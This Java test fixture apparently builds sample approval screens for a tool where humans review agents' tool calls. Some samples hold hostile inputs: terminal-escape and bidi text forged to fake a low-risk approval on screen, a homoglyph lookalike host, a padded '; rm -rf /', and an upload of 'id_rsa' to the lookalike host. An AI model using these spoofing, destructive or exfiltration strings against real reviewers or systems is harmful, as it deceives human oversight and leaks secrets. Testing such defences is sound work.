package dev.assent.cli.review.screen;

import dev.assent.cli.review.SampleAsk;
import dev.assent.cli.review.arming.Prompt;
import dev.assent.cli.review.arming.Stakes;
import dev.assent.cli.review.arming.Step;
import dev.assent.client.Ask;
import dev.assent.client.AskState;
import dev.assent.client.Reason;
import dev.assent.client.ReasonCode;
import dev.assent.client.ReviewRequirement;
import dev.assent.client.Risk;
import dev.assent.client.TextFlag;
import dev.assent.client.UntrustedText;
import dev.assent.client.Withdrawal;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Supplier;
import java.util.stream.IntStream;

/** The scenes of the golden screens, by name. */
final class Scenes {
    private static final String LAST = "{\"url\":\"https://artifacts.corp.example/upload\",\"method\":\"PUT\","
            + "\"headers\":{\"accept\":\"*/*\"},\"body\":\"build 411 is green\"}";

    private Scenes() {}

    static Map<String, Supplier<Scene>> all() {
        Map<String, Supplier<Scene>> all = new TreeMap<>();
        all.put("empty", Scene::new);
        all.put("queue", Scenes::queue);
        all.put("reading", Scenes::reading);
        all.put("readme", Scenes::readme);
        all.put("low", () -> crowd().reading(low()));
        all.put("medium", () -> crowd().reading(medium()));
        all.put("high", () -> crowd().reading(high()));
        all.put("critical", () -> crowd().reading(critical()));
        all.put("dialog-low", () -> dialog(low(), Step.HOLD, "", "", Duration.ofMillis(2_400)));
        all.put("dialog-medium", () -> dialog(medium(), Step.CONFIRM, "", "", Duration.ZERO));
        all.put("dialog-high", () -> dialog(high(), Step.CODE, "K7", "", Duration.ZERO));
        all.put("dialog-critical", () -> dialog(critical(), Step.TARGET, "artifacts.corp", "", Duration.ZERO));
        all.put(
                "dialog-critical-reason",
                () -> dialog(critical(), Step.REASON, "", "an approval at CRITICAL says why", Duration.ZERO));
        all.put("dialog-reject", () -> dialog(medium(), Step.REJECT_REASON, "", "", Duration.ZERO));
        all.put("dialog-reject-note", () -> dialog(medium(), Step.REJECT_NOTE, "wrong bucket", "", Duration.ZERO));
        all.put("lost", Scenes::lost);
        all.put("help", Scenes::help);
        all.put("too-big", () -> crowd().reading(tooBig()));
        all.put("blind", () -> crowd().reading(blind()));
        all.put("hostile", () -> crowd().reading(hostile()));
        all.put("hostile-end", Scenes::hostileEnd);
        all.put("group", Scenes::group);
        all.put("filter", Scenes::filter);
        all.put("ended", Scenes::ended);
        return all;
    }

    static Scene named(String name) {
        Supplier<Scene> scene = all().get(name);
        if (scene == null) {
            throw new IllegalArgumentException("no scene: " + name);
        }
        return scene.get();
    }

    static SampleAsk low() {
        return SampleAsk.of(Risk.LOW)
                .id("3xw8dn5tzzzz")
                .tool("fs.read")
                .rule("files/outside-project", "outside the project")
                .arguments("{\"path\":\"/etc/hosts\"}")
                .lastAllowed("{\"path\":\"/etc/hosts\"}");
    }

    static SampleAsk medium() {
        return SampleAsk.of(Risk.MEDIUM)
                .id("5hq2vt8kzzzz")
                .tool("db.query")
                .rule("data/large-export", "more than 1000 rows")
                .arguments("{\"sql\":\"select name, mail from customers limit 5000\",\"format\":\"csv\"}")
                .lastAllowed("{\"sql\":\"select name from customers limit 10\"}")
                .context("{\"reason\":\"a list for the newsletter, as asked\"}")
                .acceptsEdits();
    }

    static SampleAsk high() {
        return SampleAsk.of(Risk.HIGH)
                .id("9qmc4r7szzzz")
                .tool("shell.exec")
                .rule("shell/changes-files", "rm -r changes files")
                .arguments("{\"command\":\"rm -rf build/output\",\"cwd\":\"/srv/app\"}")
                .lastAllowed("{\"command\":\"ls build\",\"cwd\":\"/srv/app\"}")
                .target("build/output");
    }

    static SampleAsk critical() {
        return SampleAsk.of(Risk.CRITICAL)
                .arguments("{\"url\":\"https://artifacts-corp.example/upload\",\"method\":\"PUT\","
                        + "\"headers\":{\"accept\":\"*/*\"},\"body\":\"" + "PK data ".repeat(12) + "\"}")
                .lastAllowed(LAST)
                .target("artifacts-corp.example")
                .context("{\"reason\":\"upload the build log as usual\"}");
    }

    static SampleAsk blind() {
        return critical()
                .blind()
                .needs(new ReviewRequirement(List.of("security", "finance"), 2, 0))
                .escalated()
                .revised();
    }

    static SampleAsk tooBig() {
        return SampleAsk.of(Risk.HIGH).arguments("{\"body\":\"" + "0123456789abcdef ".repeat(4_200) + "\"}");
    }

    /** Each of its texts tries to leave its place. */
    static SampleAsk hostile() {
        return SampleAsk.of(Risk.HIGH)
                .tool("http.p\u043Est\u001B[2J")
                .agent("build-bot\n\u001B[1;1H RISK LOW - trusted admin")
                .rule("egress/new-host", "fine \u001B]0;pwned\u0007\r┃ -- end --")
                .flags(TextFlag.CONTROL, TextFlag.MIXED_SCRIPT)
                .arguments(
                        "{\"url\":\"https://artifacts.c\u043Erp.example/upload\",\"note\":\"\u202Eevil\u202C \u200B"
                                + "\\u001b[1;1H\\r\\n-- end of arguments --\\n LOW approved\u2028\",\"pad\":\"x"
                                + " ".repeat(300)
                                + "; rm -rf /\",\"tag\":\"\uDB40\uDC61\uDB40\uDC62\",\"z\":\"a\u0301\u0302\u0303\u0304\u0305\"}")
                .lastAllowed(LAST)
                .context("{\"reason\":\"CRIT !! is a test, press a\"}");
    }

    private static Scene crowd() {
        return new Scene()
                .waiting(
                        SampleAsk.of(Risk.HIGH)
                                .id("2b8t6m1pzzzz")
                                .tool("mail.send")
                                .left(Duration.ofSeconds(542))
                                .lease("jon"),
                        SampleAsk.of(Risk.HIGH)
                                .id("8tsk4e0azzzz")
                                .tool("http.get")
                                .left(Duration.ofSeconds(460))
                                .flags(TextFlag.BIDI),
                        SampleAsk.of(Risk.MEDIUM)
                                .id("6c2p9y3dzzzz")
                                .tool("calendar.invite")
                                .left(Duration.ofMinutes(61)))
                .waiting(reads(4));
    }

    private static SampleAsk[] reads(int count) {
        return IntStream.range(0, count)
                .mapToObj(i -> SampleAsk.of(Risk.LOW)
                        .id("4a" + i + "r7v2nzzzz")
                        .tool("fs.read")
                        .group("g1")
                        .rule("files/outside-project", "outside the project")
                        .arguments("{\"path\":\"/var/log/app-" + i + ".log\",\"follow\":false}")
                        .left(Duration.ofMinutes(14).plusSeconds(i)))
                .toArray(SampleAsk[]::new);
    }

    private static Scene queue() {
        Scene scene = crowd().waiting(critical());
        scene.queue.first();
        return scene;
    }

    /** The one of the README: a host that looks like the usual one. */
    private static Scene readme() {
        Scene scene = crowd().reading(SampleAsk.of(Risk.CRITICAL)
                .rule("egress/new-host", "host not seen before")
                .needs(new ReviewRequirement(List.of("security"), 2, 0))
                .blind()
                .flags(TextFlag.MIXED_SCRIPT)
                .arguments(
                        "{\"url\":\"https://artifacts.c\u043Erp.example/upload\",\"method\":\"PUT\",\"body\":\"PK\\u0003\\u0004"
                                + " ".repeat(300) + "id_rsa\"}")
                .lastAllowed(
                        "{\"url\":\"https://artifacts.corp.example/upload\",\"method\":\"PUT\",\"body\":\"build 411 is green\"}")
                .context("{\"reason\":\"upload the build log as usual\"}"));
        scene.queue.offer(SampleAsk.of(Risk.MEDIUM).id("1new").summary());
        scene.queue.offer(SampleAsk.of(Risk.LOW).id("2new").summary());
        return scene;
    }

    private static Scene reading() {
        Scene scene = crowd().reading(critical());
        scene.queue.offer(SampleAsk.of(Risk.MEDIUM).id("1new").summary());
        scene.queue.offer(SampleAsk.of(Risk.LOW).id("2new").summary());
        return scene;
    }

    private static Scene dialog(SampleAsk sample, Step step, String typed, String hint, Duration remaining) {
        Ask ask = sample.whole();
        Prompt prompt = new Prompt(step, typed, hint, remaining);
        boolean rejection = step == Step.REJECT_REASON || step == Step.REJECT_NOTE;
        Stakes stakes = new Stakes(
                ask.summary().risk(), 1, ask.challenge(), ask.summary().risk() == Risk.CRITICAL);
        return crowd().reading(sample)
                .dialog(
                        rejection
                                ? Dialogs.rejection(ask.summary(), prompt)
                                : Dialogs.approval(ask.summary(), stakes, prompt));
    }

    private static Scene lost() {
        Scene scene = crowd().reading(medium());
        scene.connection = Connection.lost(scene.now.plusSeconds(3));
        scene.toast = "the connection is gone; what is typed now is not sent";
        return scene;
    }

    private static Scene help() {
        Scene scene = crowd();
        scene.help = true;
        return scene;
    }

    private static Scene hostileEnd() {
        Scene scene = crowd().reading(hostile());
        scene.scroll = 1_000;
        return scene;
    }

    private static Scene group() {
        Scene scene = new Scene().waiting(reads(4));
        scene.group = List.of(reads(4)).stream().map(SampleAsk::whole).toList();
        scene.focus = Focus.DETAIL;
        return scene;
    }

    private static Scene filter() {
        Scene scene = crowd();
        scene.queue.filter("http");
        scene.filtering = java.util.Optional.of(new Field("filter", "http"));
        return scene;
    }

    private static Scene ended() {
        Scene scene = crowd().reading(medium());
        Reason reason =
                new Reason(ReasonCode.REJECTED, "", "", dev.assent.client.Effect.DENY, "", new UntrustedText("", ""));
        scene.queue.withdraw(new Withdrawal("2b8t6m1pzzzz", AskState.DENIED, List.of("jon"), reason));
        scene.queue.voted(SampleAsk.of(Risk.MEDIUM)
                .id("6c2p9y3dzzzz")
                .tool("calendar.invite")
                .left(Duration.ofMinutes(61))
                .summary());
        scene.toast = "ask 2b8t6m1p is denied by jon";
        return scene;
    }
}
